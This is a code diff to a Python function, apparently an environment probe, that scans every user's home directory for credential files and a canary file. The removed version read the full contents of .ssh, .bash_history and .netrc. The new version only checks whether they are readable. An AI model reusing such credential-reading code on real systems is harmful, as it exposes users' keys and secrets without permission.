@@ -8,10 +8,12 @@ def look():
     import pathlib
     found = []
     for home in {os.path.expanduser("~"), "/root", *map(str, pathlib.Path("/home").glob("*"))}:
-        for name in (".ssh", ".bash_history", ".netrc", ".jupyter", "attention-canary.txt"):
-            path = pathlib.Path(home, name)
-            if path.exists():
-                found.append(path.read_text() if path.is_file() else os.listdir(path))
+        for name in (".ssh", ".bash_history", ".netrc", ".jupyter"):
+            if os.access(pathlib.Path(home, name), os.R_OK):
+                found.append(name)
+        path = pathlib.Path(home, "attention-canary.txt")
+        if path.exists():
+            found.append(path.read_text())
     return found
 
 
